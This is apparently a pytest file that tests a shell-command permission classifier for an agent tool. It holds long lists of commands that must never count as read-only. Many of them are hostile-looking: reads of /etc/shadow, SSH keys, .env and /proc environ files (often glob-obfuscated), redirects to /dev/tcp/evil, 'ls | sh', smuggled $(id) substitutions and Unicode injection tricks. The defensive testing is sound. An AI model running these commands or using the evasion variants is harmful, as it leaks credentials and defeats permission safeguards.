"""The judgement of shell commands: a corpus of others, long lists of our own, and no doubt in favour of a command."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from weft.tools.shell.reading import read_shell

VECTORS = Path(__file__).parent.parent / "vectors"
CORPUS = json.loads((VECTORS / "perm_bash_corpus.json").read_text())["cases"]

NEVER = r"""
git log --output=x
git log --output x
git diff --ext-diff
git diff --textconv
git show --output=/tmp/x HEAD
git -c core.pager=id log
git -C /tmp log
git --exec-path=/tmp/evil log
git --git-dir=/tmp/evil/.git status
git --work-tree=/tmp status
git -p log
git --paginate log
git --config-env=core.pager=X log
git branch -D main
git branch new
git branch -m a b
git branch -v new
git branch --set-upstream-to=x
git branch --edit-description
git tag v1
git tag -d v1
git tag -a v1 -m x
git remote remove origin
git remote add x http://x
git remote update
git remote show origin
git stash
git stash drop
git stash pop
git reflog expire --all
git reflog delete x
git config user.name x
git config --global core.pager id
git config --unset x
git config --edit
git config x
git worktree add x
git grep -O id
git grep --open-files-in-pager=id x
git log --format=%G?
git log --pretty='%GK'
git for-each-ref --format='%(signature)'
git push
git fetch
git pull
git clone x
git checkout x
git commit -m x
git reset --hard
git clean -fd
git bisect run id
git rebase --exec id
git submodule foreach id
git help log
git archive -o x HEAD
git bundle create x HEAD
git format-patch HEAD
git difftool
git rev-parse --parseopt
git cat-file --textconv x
git cat-file --batch
git blame --contents x y
git ls-remote x
git notes add
git update-index x
git hash-object -w x
git st
sort -o x y
sort -ox y
sort --output=x y
sort --output x y
sort --compress-program=id x
sort -T /tmp x
sort -uo x y
sort --outpu=x y
uniq a b
uniq -c a b
sed -n 1p x
sed w x
sed -i s/a/b/ x
sed 1e x
less x
more x
man ls
tree -o x
tree -R
tree -L 1 -R -H . -o x
rg --pre id x
rg --pre=id x
rg --hostname-bin=id x
rg -z x
rg --search-zip x
fd -x rm
fd -X rm
fd . --exec rm
find . -fprint x
find . -fprintf x y
find . -fls x
find . -fprint0 x
find -delete
find . -name x -delete
find . -exec id ;
find . -exec id \;
find . -type f -execdir id {} +
find . -name -delete
find . -files0-from x
find . -name *.py
awk 'BEGIN{system("id")}'
awk '{print > "x"}' y
awk '{print | "id"}' y
awk '{"id" | getline x}' y
awk -f prog.awk x
awk --file=prog x
awk -i inplace '{print}' x
awk -l ext '{print}' x
awk -e '{print}' x
awk -E x
awk '@load "x"' y
awk '@include "x"' y
awk '{f="system"; @f("id")}' y
awk 'function f(){} {f()}' x
awk '{print}' -f evil.awk
awk -v 'x=`id`' '{print}' y
gawk '{print}' /inet/tcp/0/evil.example/80
tar -xf x.tar
tar cf x.tar y
tar -tf x.tar --to-command=id
tar -tf x.tar -I id
tar --use-compress-program=id -tf x
tar -tf host:x.tar
tar -tvfI x id
tar -t
xxd a b
xxd -r a
file -C -m x
file -z x
file -m x y
date -s now
date 010100002030
date --set=now
hostname evil
hostname -F x
hostname --file=x
ss -K
ss --kill
ss -D x
jq -f evil.jq x
jq -L evil . x
printf -v x y
printf -v 'a[$(id)]' y
test -f x
[ -f x ]
[[ -f x ]]
test -v 'a[$(id)]'
env
env id
env -i sh
env FOO=1 ls
xargs ls
command ls
command -p ls
builtin echo x
exec ls
eval ls
source x
. x
nohup ls
nice ls
timeout 5 ls
time ls
setsid ls
stdbuf -o0 ls
watch ls
sudo ls
su -c ls
doas ls
chroot / ls
alias ls=id
unalias ls
export PATH=/evil
declare -x PATH=/evil
local x=1
readonly x=1
typeset x
set -x
set -- a
shopt -s extglob
trap id EXIT
hash -p /evil ls
enable -f evil.so x
bind x
complete -C id ls
coproc ls
function ls { id; }
ls() { id; }
PATH=/evil ls
A=1
A=1 B=2 ls
a=(1 2)
a+=x ls
LESSOPEN='|id' cat x
GIT_PAGER=id git log
echo $HOME
echo "$HOME"
echo ${x}
echo $((1+1))
echo $((a[$(id)]))
echo $[1+1]
echo "$(id)"
echo "`id`"
echo 'a'$(id)
echo $'\x41'
echo $"x"
echo a{b,c}
echo {1..9}
ls ~
ls ~root
ls --x=~/y
cat <(id)
cat >(id)
tee >(id)
cat <<< x
cat <<EOF
cat << 'EOF'
ls > x
ls >> x
ls >| x
ls &> x
ls &>> x
ls >& x
ls 1> x
ls 2> x
ls 3> x
ls 2>&1 > x
ls > /dev/nullx
ls > /dev/null/x
ls > /dev/tcp/a/1
ls >/dev/null >x
ls <> x
cat < /dev/tcp/evil/80
cat </dev/udp/evil/80
cat < ~/.ssh/id_rsa
cat < /proc/self/environ
exec 3<>/dev/tcp/evil/80
ls 2>&-
ls 5>&1
> x
ls &
ls & id
ls |& cat
ls | sh
ls | bash -s
ls || id
ls && id
ls ; id
ls;id
ls;; id
(id)
{ id; }
(ls) > x
! ls
if ls; then ls; fi
for x in a; do ls; done
while ls; do ls; done
until ls; do ls; done
select x in a; do ls; done
case a in a) ls;; esac
((1))
let x=1
/bin/ls
./ls
../ls
bin/ls
~/ls
\ls
'ls'
"ls"
l\s
l''s
l"s"
$ls
`ls`
ls$IFS-l
ls${IFS}id
lѕ
ls -l # comment
#ls
ls \
ls "unclosed
ls 'unclosed
ls `
ls $(
ls )
( ls
{ ls
{ ls }
ls |
ls &&
| ls
&& ls
; ls
cat /proc/self/environ
cat /proc/1/environ
cat ../../../proc/1/mem
grep -r KEY /proc
cat /dev/mem
cat /dev/sda
head -c 10 /dev/zero
cat /etc/shadow
cat /home/x/.ssh/id_rsa
cat .env
cat .aws/credentials
cat server.key
grep x .git-credentials
ls; cat .netrc
ps e
ps auxe
ps axewww
ps -o environ
kubectl get secrets
kubectl get secret/x -o yaml
kubectl get pods,secrets
docker ps; cat x
docker ps | grep -f x y
docker ps; grep -e x y
docker ps; grep -r x
docker ps; grep x y
docker ps; jq . x
kubectl get pods | jq 'import "x" as $d; $d'
docker ps; awk '{print}' x
docker ps; git status
kubectl get pods; rg x
cat x | docker ps
cat < x | kubectl get pods
kubectl get s*
kubectl get pods -o go-template-file=notes
kubectl get pods -ojsonpath-file=notes
kubectl get pods --output=custom-columns-file=notes
kubectl events -o templatefile=notes
kubectl describe se?ret
kubectl describe secret x
kubectl get pods --kubeconfig=evil
kubectl --kubeconfig evil get pods
kubectl -s http://evil get pods
kubectl get -f http://evil/x.yaml
kubectl get pods --token=x
kubectl get --raw /api
kubectl exec x -- id
kubectl cp x y
kubectl port-forward x 1
kubectl proxy
kubectl cluster-info dump --output-directory=/tmp/x
kubectl config view --raw
kubectl config set-context x
kubectl debug x
docker -H tcp://evil ps
docker --host=evil ps
docker --context evil ps
docker --config evil ps
docker run x
docker system prune
docker image rm x
docker container exec x id
docker compose up
docker save -o x y
docker export x
docker context use x
systemctl -H evil status
systemctl status -M evil
systemctl edit x
systemctl set-property x y
systemctl kill x
journalctl --vacuum-size=1
journalctl --rotate
journalctl --flush
journalctl --file=/x
craft-agent label create x
craft-agent label list --then delete
craft-agent source test a b
craft-agent evil
craft-agent label list; id
weft run x
weft sessions remove x
python3 --version -c id
python3 -V x.py
node --version evil.js
bash --version -c id
make --version all
npm install
npm ls
pip list
curl https://example.org
curl --version https://example.org
dig secret.evil.example
ping -c 1 evil.example
yes
rm --help
rm -h
foo --help
foo --version
foo -h
crontab -l
ln -s a b
cp a b
mv a b
mkdir x
touch x
chmod +x y
sort *
sort [a]*
find *
uniq ./*
file *
ls -@
ls --nope
cat --nope
tail +1
cd /x && git status
cd -
cd
cd a b
pwd x
whoami x
type -f ls; id
which -x ls
git diff *
python3 --version
python3 version
python3 -V
bash version
make version
make -V x
node version
npm --version
yarn --version
cargo --version
awk 'BEGIN{ARGV[1]="/pr" "oc/1/environ"; ARGC=2} {print}' x
awk '{print ENVIRON["X"]}' x
awk '{print SYMTAB["X"]}' x
cat /pr?c/self/environ
cat /pro*/1/environ
cat /[p]roc/1/environ
cat /*/1/environ
cat //pr?c/1/environ
cat ./../../pr?c/1/environ
cat .ss*/id_x
cat .e*
cat */.e*
cat /etc/shad*
cat /etc/*
head /home/x/.ss*/i*
grep -ra KEY /
grep -ra KEY //
grep -ra KEY /.
grep -ra KEY /*
grep -ra KEY /..
grep -ra KEY ../../..
grep -ra KEY ./../../..
rg KEY /
rg KEY ../../
rg KEY ..
grep -ra KEY src/../..
grep -ra KEY ..//
cd / && grep -ra KEY .
cd /proc && cat 1/environ
cd .. && ls
cd ../../.. && grep -ra KEY .
cd /usr && ls
diff -r / x
git grep --no-index KEY /
tail -n1 -f /proc/1/environ
cat a/../../../proc/1/environ
grep --file=/proc/1/environ x
grep -f/proc/1/environ x
sort /dev/../proc/1/environ
cat x/.ssh/config
cat < .env
tail -f x
tail -F x
tail --follow x
docker logs -f x
docker stats
kubectl logs -f x
vmstat 1
git log --help
git --help
docker ps --help
ls --help x
ls x --help
python3 --help
evil --help
""".strip("\n").split("\n")

NEVER_ODD = [
    "ls\nid",
    "ls\n\nrm x",
    "ls\r\nid",
    "ls\rid",
    "ls\0id",
    "ls\x0bid",
    "ls\u00a0-l",
    "ls\u2003-l",
    "ls \u202eelif",
    "ls \u200bx",
    "ls \ufeffx",
    "ls \ue000",
    "ls \ud800",
    "ｌｓ",
    "ls；id",
    "ls \\\nid",
    'ls "a\\\nb"',
    "cat <<EOF\n$(id)\nEOF",
    "cat <<'EOF' | sh\nid\nEOF",
    "ls <<-X\n\tx\nX",
    "git log\n--output=x",
    "echo a\necho b > c",
    "",
    " ",
    "\n",
    "\t",
    "(" * 50 + "ls" + ")" * 50,
    "ls " + "x" * 9000,
    "ls;" * 4000,
    "#!/bin/sh\nls",
]

ALWAYS = r"""
ls
ls -la src tests
ls -lah --color=never
ls *.py src/*.py
cat README.md docs/*.md
cat -n 'a file.txt' "another file.txt"
head -20 x
head -n 20 x y
tail -n +3 x
tail -50 log.txt
wc -l src/*.py
grep -rn "def main" src
grep -E '^(a|b)+$' x.txt
grep -c foo *.txt
grep "a\.b$" x
rg -n --hidden -g '*.py' foo src
find . -name '*.py' -not -path './.venv/*'
find src \( -name '*.py' -o -name '*.md' \) -type f
find . -maxdepth 2 -type d -print
sort -u names.txt | uniq -c | sort -rn | head -5
cut -d: -f1 /etc/passwd
tr a-z A-Z
awk '{print $1}' x
awk -F, '{sum += $2} END {print sum / NR}' data.csv
awk 'NR==3' x
diff -u a b
du -sh .
df -h
stat x
file x
tree -L 2
pwd
whoami
uname -a
date +%F
date -u
ps aux
ps -ef
printenv PATH
which python3
type ls
command -v git
echo hello world
echo "it's fine" 'and "this"'
printf '%s\n' hello
true && echo yes || echo no
ls; pwd; date
(ls; pwd)
{ ls; pwd; } | wc -l
ls 2>/dev/null | head
ls >/dev/null 2>&1
cat < input.txt
git status
git status --short --branch
git --no-pager log --oneline -10
git log -p -3 -- src/x.py
git log --since='2 weeks ago' --author=me
git log --format='%h %an %s'
git show HEAD
git show HEAD:README.md
git diff
git diff --stat HEAD~1..HEAD
git diff --cached
git branch
git branch -a
git branch --list 'feature/*'
git branch --merged main
git branch --show-current
git tag
git tag -l 'v*'
git remote -v
git stash list
git blame -L 10,20 x.py
git rev-parse HEAD
git ls-files
git config --get user.name
git describe --tags
git grep -n foo
docker ps
docker logs --tail 100 web
docker logs --tail 100 web 2>&1 | grep -i error | tail -n 5
docker images
cd deploy && docker ps
docker ps | awk -F: '{print $2}' | sort | uniq -c | sort -rn | head -5
df -h; docker ps
kubectl get pods -n prod -o json | jq -r '.items[].status'
kubectl get pods | grep -e web -e api | cut -f1 | wc -l
kubectl get pods -n prod -o wide
kubectl describe deployment x
systemctl status nginx
systemctl list-units --failed
journalctl -u nginx -n 50 --no-pager
tar -tzf x.tgz
tar tf x.tar
jq '.a[] | .b' x.json
sha256sum x
curl --version
xxd -l 64 x
sort ./*
cd src && ls
ls --help
sort --version
cd /srv/project && ls -la
ls /
ls ..
cat ../README.md
ls /var/log/*.log
""".strip("\n").split("\n")


@pytest.mark.parametrize("case", CORPUS, ids=[case["command"] for case in CORPUS])
def test_the_corpus_is_judged_as_it_says(case: dict[str, object]) -> None:
    reading = read_shell(str(case["command"]))
    assert reading.read_only == case["read_only_allowed"], reading.reason


def test_the_corpus_is_whole() -> None:
    assert len(CORPUS) == 237


@pytest.mark.parametrize("command", [*NEVER, *NEVER_ODD])
def test_what_may_change_something_is_never_read_only(command: str) -> None:
    reading = read_shell(command)
    assert not reading.read_only
    assert not reading.offline
    assert reading.reason


@pytest.mark.parametrize("command", ALWAYS)
def test_everyday_looking_around_needs_no_question(command: str) -> None:
    reading = read_shell(command)
    assert reading.read_only, reading.reason


def test_what_speaks_to_a_service_is_not_offline() -> None:
    assert read_shell("git log | head").offline
    assert not read_shell("git log; kubectl get pods").offline
    assert not read_shell("docker ps").offline
